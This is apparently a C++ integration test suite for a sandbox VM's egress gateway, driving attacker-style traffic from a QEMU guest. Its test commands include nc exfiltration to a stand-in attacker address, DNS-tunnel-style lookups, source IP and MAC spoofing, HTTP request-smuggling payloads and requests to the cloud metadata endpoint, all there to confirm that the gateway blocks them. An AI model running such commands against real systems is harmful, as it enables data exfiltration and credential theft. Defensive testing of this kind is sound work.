// The egress threat classes driven from a real guest VM as root: the QEMU
// guest's virtio-net is the slot's tap, its commands run through the guest
// agent, and the busybox userland does what an attacker's shell would.
// As everywhere, a case passes only if the attacker's log is empty.
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include "agentclient/agent_client.h"
#include "agentclient/testing/agent_harness.h"
#include "hypervisor/qemu/qemu.h"
#include "node/machine.h"
#include "tests/integration/egress/world.h"
#include "tests/integration/guest_env.h"

namespace vessel::egress_test {
namespace {

namespace asio = boost::asio;
using namespace std::chrono_literals;
using agentclient::testing::runFor;

class EgressVmTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::geteuid() != 0) return;
    auto w = EgressWorld::create();
    ASSERT_TRUE(w.ok()) << w.error().message();
    world_ = w->release();
    auto g = world_->addVmGuest("sb-vm", allowlist(1, {"a.test"}));
    ASSERT_TRUE(g.ok()) << g.error().message();
    guest_ = *g;
    io_ = new asio::io_context();
    dir_ = new testing::ScratchDir();
    hv_ = new hypervisor::qemu::QemuHypervisor({});
    hypervisor::MachineSpec spec = testing::minimalSpec("egr" + std::to_string(::getpid()), *dir_);
    spec.tap_fd = guest_->slot->tapFd();
    auto m = runFor(*io_, node::bootMachine(*hv_, spec, node::Clock::now() + 90s), 120s);
    ASSERT_TRUE(m.ok()) << m.error().message();
    machine_ = new node::Machine(std::move(*m));
    client_ = new std::shared_ptr<agentclient::AgentClient>(agentclient::AgentClient::create(
        std::move(machine_->vm->agentChannel()), std::move(machine_->leftover), "egress-vm"));
    // What a template's network setup does: the same address in every VM.
    auto r =
        sh("ip link set eth0 up && ip addr add 172.16.0.2/30 dev eth0 && "
           "ip route add default via 172.16.0.1");
    ASSERT_TRUE(r.ok() && r->exit.code == 0) << (r.ok() ? r->err : r.error().message());
  }
  static void TearDownTestSuite() {
    if (client_) (*client_)->close();
    if (machine_) EXPECT_TRUE(runFor(*io_, machine_->vm->stop(), 30s).ok());
    delete client_;
    delete machine_;
    delete hv_;
    delete dir_;
    delete io_;
    delete world_;
  }
  static Result<agentclient::ExecResult> sh(const std::string& cmd) {
    agentclient::ExecSpec s;
    s.shell = cmd;
    s.user = "root";
    s.timeout = 30s;
    return runFor(*io_, (*client_)->run(s), 60s);
  }
  static std::string out(const std::string& cmd) {
    auto r = sh(cmd);
    return r.ok() ? r->out + r->err : "FAILED " + r.error().message();
  }
  void SetUp() override {
    if (::geteuid() != 0) GTEST_SKIP() << "needs root";
    ASSERT_NE(client_, nullptr) << "the guest did not boot";
    ASSERT_TRUE(world_->setPolicy(*guest_, allowlist(++generation_, {"a.test"})).ok());
    world_->clearLogs();
  }

  static EgressWorld* world_;
  static Guest* guest_;
  static asio::io_context* io_;
  static testing::ScratchDir* dir_;
  static hypervisor::qemu::QemuHypervisor* hv_;
  static node::Machine* machine_;
  static std::shared_ptr<agentclient::AgentClient>* client_;
  static uint64_t generation_;
};

EgressWorld* EgressVmTest::world_ = nullptr;
Guest* EgressVmTest::guest_ = nullptr;
asio::io_context* EgressVmTest::io_ = nullptr;
testing::ScratchDir* EgressVmTest::dir_ = nullptr;
hypervisor::qemu::QemuHypervisor* EgressVmTest::hv_ = nullptr;
node::Machine* EgressVmTest::machine_ = nullptr;
std::shared_ptr<agentclient::AgentClient>* EgressVmTest::client_ = nullptr;
uint64_t EgressVmTest::generation_ = 1;

const char* kGetA =
    "printf 'GET / HTTP/1.1\\r\\nHost: a.test\\r\\nConnection: close\\r\\n\\r\\n' | "
    "nc -w 5 203.0.113.66 80";

TEST_F(EgressVmTest, HostDecidesNotTheDestinationAddress) {
  // Sent to X's address, named a.test: the gateway dials a.test's own answer.
  std::string o = out(kGetA);
  EXPECT_NE(o.find("hello from a.test"), std::string::npos) << o;
  EXPECT_EQ(world_->attackerLog(), "") << o;
}

TEST_F(EgressVmTest, DnsAnswersAllowedNamesOnlyAndNeverForwardsOthers) {
  // busybox nslookup gives up on a slow answer silently; on a loaded
  // machine the fake internet's resolver can be slow, so up to three tries.
  std::string o;
  for (int i = 0; i < 3 && o.find("198.51.100.10") == std::string::npos; ++i)
    o += out("nslookup a.test 172.16.0.1");
  EXPECT_NE(o.find("198.51.100.10"), std::string::npos) << o;
  o += out("nslookup c2VjcmV0.x.test 172.16.0.1; nslookup a.test 203.0.113.66");
  EXPECT_EQ(world_->attackerLog(), "") << o;
}

TEST_F(EgressVmTest, UdpIcmpAndOtherPortsAreDropped) {
  std::string o =
      out("ping -c 2 -W 1 203.0.113.66; echo exfil | nc -u -w 1 203.0.113.66 53; "
          "echo exfil | nc -u -w 1 203.0.113.66 123; echo SSH-2.0-x | nc -w 3 203.0.113.66 22; "
          "echo x | nc -w 3 198.51.100.10 25");
  EXPECT_EQ(world_->attackerLog(), "") << o;
}

TEST_F(EgressVmTest, SpoofedSourceAndMacAreDroppedEvenInFullMode) {
  // Full mode would let this request reach X; only the slot's identity
  // rules stand between a spoofed frame and the attacker.
  ASSERT_TRUE(world_->setPolicy(*guest_, fullMode(++generation_)).ok());
  auto to_x = [](const char* path) {
    return "printf 'GET /" + std::string(path) +
           " HTTP/1.1\\r\\nHost: x.test\\r\\n\\r\\n' | nc -w 3 203.0.113.66 80";
  };
  std::string control = out(to_x("control"));
  EXPECT_NE(world_->attackerLog().find("/control"), std::string::npos) << control;
  world_->clearLogs();
  std::string o =
      out("ip addr add 172.16.0.6/32 dev eth0 && ping -c 2 -W 1 -I 172.16.0.6 203.0.113.66; "
          "ip addr del 172.16.0.6/32 dev eth0");
  o +=
      out("ip link set eth0 down && ip link set eth0 address 06:00:ac:10:00:09 && "
          "ip link set eth0 up && ip route add default via 172.16.0.1; " +
          to_x("macspoof") +
          "; ip link set eth0 down; ip link set eth0 address 06:00:ac:10:00:02; "
          "ip link set eth0 up; ip route add default via 172.16.0.1");
  EXPECT_EQ(world_->attackerLog(), "") << o;
  // And the guest's real identity still works.
  std::string back = out(to_x("back"));
  EXPECT_NE(world_->attackerLog().find("/back"), std::string::npos) << back;
}

// Request framing from a real guest (issue 14): each sends a harmless
// request to a2.test followed by one for the CDN's other tenant x2.test that
// only an unchecked byte stream would deliver. The gateway's own verdict is
// awaited, then the attacker's log must be empty.
class EgressVmRelayTest : public EgressVmTest {
 protected:
  void SetUp() override {
    EgressVmTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    ASSERT_TRUE(world_->setPolicy(*guest_, allowlist(++generation_, {"a.test", "a2.test"})).ok());
  }
  void expectDenied(const std::string& printf_bytes, const std::string& reason) {
    std::string counter = "tcp_deny_" + reason;
    int64_t before = world_->counter(counter);
    ASSERT_GE(before, 0) << "gateway not answering";
    std::string o = out("printf '" + printf_bytes + "' | nc -w 3 198.51.100.20 80");
    EXPECT_TRUE(world_->waitForCounter(counter, before)) << "no " << reason << " verdict: " << o;
    EXPECT_EQ(world_->attackerLogNow(), "") << o;
  }
};

constexpr const char* kSmuggledX2 = "GET /smuggled HTTP/1.1\\r\\nHost: x2.test\\r\\n\\r\\n";

TEST_F(EgressVmRelayTest, UpgradeRequestTheUpstreamRefusedKeepsHostChecking) {
  expectDenied(std::string("GET / HTTP/1.1\\r\\nHost: a2.test\\r\\nUpgrade: websocket\\r\\n"
                           "Connection: Upgrade\\r\\n\\r\\n") +
                   kSmuggledX2,
               "host-mismatch");
}

TEST_F(EgressVmRelayTest, BodyOnGetIsRefused) {
  // 41 bytes: exactly the smuggled request.
  expectDenied(std::string("GET / HTTP/1.1\\r\\nHost: a2.test\\r\\nContent-Length: 41\\r\\n"
                           "\\r\\n") +
                   kSmuggledX2,
               "bad-request");
}

TEST_F(EgressVmRelayTest, EarlyAnswerEndsTheConnection) {
  expectDenied(std::string("POST /early HTTP/1.1\\r\\nHost: a2.test\\r\\nExpect: 100-continue"
                           "\\r\\nContent-Length: 41\\r\\n\\r\\n") +
                   kSmuggledX2,
               "early-response");
}

TEST_F(EgressVmTest, InwardAddressesAreRefusedInFullMode) {
  ASSERT_TRUE(world_->setPolicy(*guest_, fullMode(++generation_)).ok());
  std::string o =
      out("printf 'GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n' | "
          "nc -w 3 169.254.169.254 80; "
          "printf 'GET / HTTP/1.1\\r\\nHost: rebind.test\\r\\n\\r\\n' | nc -w 3 203.0.113.66 80; "
          "echo x | nc -w 3 10.1.2.3 443");
  EXPECT_EQ(world_->attackerLog(), "") << o;
}

// IP and CIDR rules beside names (issue 25 item 6; E2B's allowOut/denyOut).
boost::json::value withAddresses(uint64_t generation, const char* mode,
                                 std::vector<std::string> allow, std::vector<std::string> deny) {
  boost::json::array a, d;
  for (auto& r : allow) a.emplace_back(r);
  for (auto& r : deny) d.emplace_back(r);
  return boost::json::object{{"generation", generation}, {"mode", mode}, {"allow", a}, {"deny", d}};
}

std::string request(const std::string& host, const std::string& path, const std::string& to,
                    int port = 80) {
  return "printf 'GET " + path + " HTTP/1.1\\r\\nHost: " + host +
         "\\r\\nConnection: close\\r\\n\\r\\n' | nc -w 5 " + to + " " + std::to_string(port);
}

TEST_F(EgressVmTest, AnAllowedAddressNeedsNoName) {
  ASSERT_TRUE(world_
                  ->setPolicy(*guest_, withAddresses(++generation_, "allowlist",
                                                     {"a.test", "198.51.100.10"}, {}))
                  .ok());
  // Plain HTTP whose Host is the IP literal itself: no name to decide by.
  std::string o = out(request("198.51.100.10", "/by-ip", "198.51.100.10"));
  EXPECT_NE(o.find("hello from 198.51.100.10 (a)"), std::string::npos) << o;
  // A name no rule allows, sent to the allowed address, goes to that address
  // (never to the name's own, X's).
  o = out(request("x.test", "/by-ip-named", "198.51.100.10"));
  EXPECT_NE(o.find("hello from x.test (a)"), std::string::npos) << o;
  // Not an allowed address: nothing reaches X, on any port.
  o += out("echo ip-rule-x | nc -w 3 203.0.113.66 22; " +
           request("203.0.113.66", "/x-by-ip", "203.0.113.66"));
  EXPECT_EQ(world_->attackerLog(), "") << o;
  // An address rule without a port covers every port: raw bytes to A's :22
  // (a port no name rule opens) arrive, and the logger there sees them.
  o = out("echo ip-rule-raw | nc -w 3 198.51.100.10 22");
  EXPECT_NE(world_->attackerLog().find("198.51.100.10:22 ip-rule-raw"), std::string::npos) << o;
}

TEST_F(EgressVmTest, ADeniedRangeIsRefusedForAddressesAndNames) {
  // Control: full mode reaches both X and A.
  ASSERT_TRUE(world_->setPolicy(*guest_, fullMode(++generation_)).ok());
  std::string o = out("echo control-x | nc -w 3 203.0.113.66 22");
  EXPECT_NE(world_->attackerLog().find("control-x"), std::string::npos) << o;
  world_->clearLogs();
  ASSERT_TRUE(world_
                  ->setPolicy(*guest_, withAddresses(++generation_, "full", {},
                                                     {"203.0.113.0/24", "198.51.100.10"}))
                  .ok());
  int64_t by_address = world_->counter("tcp_deny_denied-address");
  int64_t by_answer = world_->counter("tcp_deny_denied-answer");
  o = out("echo denied-x | nc -w 3 203.0.113.66 22");
  EXPECT_TRUE(world_->waitForCounter("tcp_deny_denied-address", by_address)) << o;
  // a.test resolves into the denied 198.51.100.10: refused by name too (sent
  // to X's address, which is denied as well, so no route reaches anything).
  o += out(request("a.test", "/denied-name", "203.0.113.66"));
  EXPECT_TRUE(world_->waitForCounter("tcp_deny_denied-answer", by_answer)) << o;
  EXPECT_EQ(o.find("hello from"), std::string::npos) << o;
  EXPECT_EQ(world_->apiLog().find("/denied-name"), std::string::npos) << world_->apiLog();
  EXPECT_EQ(world_->attackerLogNow(), "") << o;
  // The guest's resolver refuses the name too, rather than hand out a denied address.
  int64_t dns_before = world_->counter("dns_deny_denied-answer");
  std::string dns = out("nslookup a.test 172.16.0.1");
  EXPECT_TRUE(world_->waitForCounter("dns_deny_denied-answer", dns_before)) << dns;
  EXPECT_EQ(dns.find("198.51.100.10"), std::string::npos) << dns;
  // Everything else stays reachable: a2.test is outside the denied ranges.
  o = out(request("a2.test", "/not-denied", "198.51.100.20"));
  EXPECT_NE(o.find("hello from a2.test (cdn)"), std::string::npos) << o;
}

TEST_F(EgressVmTest, AnAllowedAddressTakesPrecedenceOverADeniedRange) {
  ASSERT_TRUE(world_
                  ->setPolicy(*guest_, withAddresses(++generation_, "full", {"198.51.100.10:80"},
                                                     {"198.51.100.0/24"}))
                  .ok());
  std::string o = out(request("a.test", "/precedence", "198.51.100.10"));
  EXPECT_NE(o.find("hello from a.test (a)"), std::string::npos) << o;
  // The exception is for port 80: the rest of the range stays denied.
  int64_t before = world_->counter("tcp_deny_denied-answer");
  o = out(request("a2.test", "/still-denied", "198.51.100.20"));
  EXPECT_TRUE(world_->waitForCounter("tcp_deny_denied-answer", before)) << o;
  EXPECT_EQ(o.find("hello from"), std::string::npos) << o;
}

}  // namespace
}  // namespace vessel::egress_test
